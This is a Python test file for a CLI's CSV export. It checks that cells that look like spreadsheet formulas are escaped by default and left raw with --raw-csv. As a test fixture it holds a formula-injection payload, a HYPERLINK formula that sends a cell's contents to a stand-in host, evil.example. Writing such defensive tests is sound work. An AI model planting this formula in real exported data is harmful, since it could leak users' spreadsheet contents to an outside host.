"""Every CSV the CLI writes neutralises spreadsheet formulas; --raw-csv turns that off."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from kretain.cli import cli
from kretain.store import open_store, transitions
from kretain.store.models import entry_fields_from_wire
from kretain.store.states import Action, State

NAME = '=HYPERLINK("http://evil.example/?"&A1, "click")'
OWNER = "@owner"


async def _build(db: Path) -> None:
    store = await open_store(db)
    try:
        obj = {
            "id": "0_formula1",
            "name": NAME,
            "userId": OWNER,
            "type": 1,
            "mediaType": 1,
            "status": -1,
            "createdAt": 1_400_000_000,
            "plays": 0,
            "duration": 60,
        }
        admission = transitions.Admission(
            fields=entry_fields_from_wire(obj),
            state=State.CANDIDATE,
            policy="non-ready",
            action=Action.DELETE_ENTRY,
            reason="-1 status",
        )
        await transitions.admit(store, [admission], run_id=None)
    finally:
        await store.close()


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "kretain.db"
    asyncio.run(_build(path))
    return path


def rows(args: list[str]) -> list[dict[str, str]]:
    result = CliRunner().invoke(cli, args, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout, newline="")))


def test_export_escapes_text_cells_by_default_and_not_with_raw_csv(db: Path) -> None:
    (row,) = rows(["--db", str(db), "export", "--columns", "full"])
    assert row["name"] == "'" + NAME and row["owner"] == "'" + OWNER
    assert row["reason"] == "'-1 status"
    assert row["status"] == "-1"  # a plain number stays a number
    assert row["duration"] == "60"
    (raw,) = rows(["--db", str(db), "export", "--columns", "full", "--raw-csv"])
    assert raw["name"] == NAME and raw["owner"] == OWNER and raw["status"] == "-1"


def test_owners_query_status_and_summary_csv(db: Path) -> None:
    (owner,) = rows(["--db", str(db), "export", "--owners"])
    assert owner["owner"] == "'" + OWNER
    (raw_owner,) = rows(["--db", str(db), "export", "--owners", "--raw-csv"])
    assert raw_owner["owner"] == OWNER
    sql = "select name, -1 as n, '-1' as s, '+x' as p from entries"
    (queried,) = rows(["--db", str(db), "query", sql, "--csv"])
    assert queried == {"name": "'" + NAME, "n": "-1", "s": "-1", "p": "'+x"}
    (raw_query,) = rows(["--db", str(db), "query", sql, "--format", "csv", "--raw-csv"])
    assert raw_query["name"] == NAME and raw_query["p"] == "+x"
    for command in ("status", "summary"):
        for extra in ([], ["--raw-csv"]):
            assert rows(["--db", str(db), command, "--format", "csv", *extra])
